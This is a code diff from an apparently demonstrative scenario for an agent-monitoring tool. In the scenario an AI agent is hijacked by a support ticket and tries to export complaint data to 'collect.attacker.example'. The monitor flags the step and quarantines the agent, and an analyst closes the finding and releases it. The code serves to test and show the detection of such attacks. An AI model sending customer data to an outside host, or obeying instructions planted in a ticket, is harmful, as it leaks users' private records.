@@ -61,7 +61,7 @@ pub(super) async fn play(stage: &mut Stage, server: &Server, home: &Path) -> mie
     let key = Arc::new(Key::read(&bundle::key_file(home, AGENT)).into_diagnostic()?);
     let credentials = Credentials::start(Http::new(None).into_diagnostic()?, &server.origin, wanted(key)).await.into_diagnostic()?;
     let listener = proxy::Listener::tcp(([127, 0, 0, 1], 0).into()).await?;
-    let mut agent = Agent::at(listener.address())?;
+    let agent = Agent::at(listener.address())?;
     tokio::spawn(async move { proxy::serve(&listener, Whose::Own(credentials)).await });
     let ended = agent.listen().await?;
     let stream = tokio::spawn(async move {
@@ -69,14 +69,18 @@ pub(super) async fn play(stage: &mut Stage, server: &Server, home: &Path) -> mie
         MachineClock.now()
     });
     let mut play = Third { stage, log, bundle, agent, stream };
-    play.hijacked().await?;
-    play.released().await
+    if let Some(finding) = play.hijacked().await? {
+        play.released(&finding).await?;
+    }
+    Ok(())
 }
 
 /// What would have been done about the first act, had anybody let it.
 async fn rehearsed(stage: &mut Stage, log: &Log) -> miette::Result<()> {
     let rehearsed = until(log, Position(0), |record| match record {
-        Record::Response(response) if response.code == ResponseEnd::DryRun && response.response == Response::Quarantine => Some(response.agent),
+        Record::Response(response) if response.code == ResponseEnd::DryRun && response.response == Response::Quarantine => {
+            Some(response.agent)
+        }
         _ => None,
     });
     let rehearsed = rehearsed.await?;
@@ -98,8 +102,8 @@ async fn carry_out(log: &Log, bundle: &Path) -> miette::Result<()> {
 }
 
 impl Third<'_> {
-    /// The agent reads the ticket again, and obeys until it is stopped.
-    async fn hijacked(&mut self) -> miette::Result<()> {
+    /// The agent reads the ticket again, and obeys until it is stopped. Gives what was found, as much of its name as a person types.
+    async fn hijacked(&mut self) -> miette::Result<Option<String>> {
         let from = Position(self.log.storage().len());
         self.call("pull support tickets", "tickets/list", json!({ "since_days": 30 }), Code::Allowed).await?;
         let export = json!({ "url": "https://collect.attacker.example/in", "rows": ["complaints"] });
@@ -109,7 +113,7 @@ impl Third<'_> {
 
         let watched = self.watched(from).await?;
         self.stage.promise("its second step off the path raised a finding, and the finding stopped it", watched.is_some());
-        let Some(Watched { finding, record, seen, times: [called, found, stopped] }) = watched else { return Ok(()) };
+        let Some(Watched { finding, record, seen, times: [called, found, stopped] }) = watched else { return Ok(None) };
         let cut = tokio::time::timeout(PATIENCE, &mut self.stream).await.ok().and_then(Result::ok);
         self.stage.promise("the stream that it had open was cut", cut.is_some());
         let ms = |time: Timestamp| (time.as_microsecond() - called.as_microsecond()) as f64 / 1_000.0;
@@ -117,9 +121,13 @@ impl Third<'_> {
         self.stage.say(&format!("  found  {seen}"));
         let short: String = finding.to_string().chars().skip("sha256:".len()).take(12).collect();
         self.stage.say(&format!("          finding {short}  record {record}"));
-        self.stage.say(&format!("          after the call was decided: found {:.1} ms, quarantined {:.1} ms, its stream cut {cut}\n", ms(found), ms(stopped)));
+        self.stage.say(&format!(
+            "          after the call was decided: found {:.1} ms, quarantined {:.1} ms, its stream cut {cut}\n",
+            ms(found),
+            ms(stopped)
+        ));
         self.call("go on", "crm/query_complaints", json!({ "since_days": 30 }), Code::Quarantined).await?;
-        Ok(())
+        Ok(Some(short))
     }
 
     /// What the log says of it, once the agent is stopped.
@@ -129,30 +137,40 @@ impl Third<'_> {
         let stopped = until(&self.log, from, |record| {
             match record {
                 Record::Intent(intent) => calls.push((intent.at, intent.tool)),
-                Record::Finding(one) if found.is_none() && one.agent.as_ref().is_some_and(|agent| agent.as_str() == AGENT) => found = Some(one),
+                Record::Finding(one) if found.is_none() && one.agent.as_ref().is_some_and(|agent| agent.as_str() == AGENT) => {
+                    found = Some(one)
+                }
                 Record::Quarantined(quarantined) if quarantined.agent.as_str() == AGENT => return Some(quarantined.at),
                 _ => {}
             }
             None
         });
         let (Some((_, stopped)), Some(one)) = (stopped.await?, found) else { return Ok(None) };
-        let record = until(&self.log, from, |record| matches!(record, Record::Finding(other) if other.finding.id == one.finding.id).then_some(()));
+        let record =
+            until(&self.log, from, |record| matches!(record, Record::Finding(other) if other.finding.id == one.finding.id).then_some(()));
         let record = record.await?.map_or(from, |(position, ())| position);
         let called = calls.iter().rev().find(|(_, tool)| one.tool.as_ref() == Some(tool)).map_or(one.finding.last, |(at, _)| *at);
         Ok(Some(Watched { finding: one.finding.id, record, seen: one.finding.seen, times: [called, one.at, stopped] }))
     }
 
     /// An analyst looks at the finding, says what it was, and lets the agent go on.
-    async fn released(&mut self) -> miette::Result<()> {
-        self.stage.say("An analyst looks at it.\n");
-        let listed = run(&self.bundle, &["findings", "list", "--agent", AGENT]).await?;
-        self.stage.say(&indented(&listed));
+    async fn released(&mut self, finding: &str) -> miette::Result<()> {
         let reason = "the ticket was removed, and its author is barred";
-        self.stage.say(&format!("\n  $ bailiwick release {AGENT} --reason \"{reason}\"\n"));
+        self.stage.say("\nAn analyst looks at it, and lets the agent go on.\n");
+        self.types(&["findings", "show", finding]).await?;
+        self.types(&["findings", "close", finding, "--as", "true-positive", "--reason", reason]).await?;
         if !is_off("release") {
-            run(&self.bundle, &["release", AGENT, "--reason", reason]).await?;
+            self.types(&["release", AGENT, "--reason", reason]).await?;
         }
         self.call("do its work again", "tickets/list", json!({ "since_days": 30 }), Code::Allowed).await?;
+        Ok(())
+    }
+
+    /// Runs a command, as the analyst types it, and shows what it prints.
+    async fn types(&self, arguments: &[&str]) -> miette::Result<()> {
+        let printed = run(&self.bundle, arguments).await?;
+        let typed: Vec<_> = arguments.iter().map(|one| if one.contains(' ') { format!("\"{one}\"") } else { (*one).to_owned() }).collect();
+        self.stage.say(&format!("  $ bailiwick {}\n{}\n", typed.join(" "), indented(&printed)));
         Ok(())
     }
 
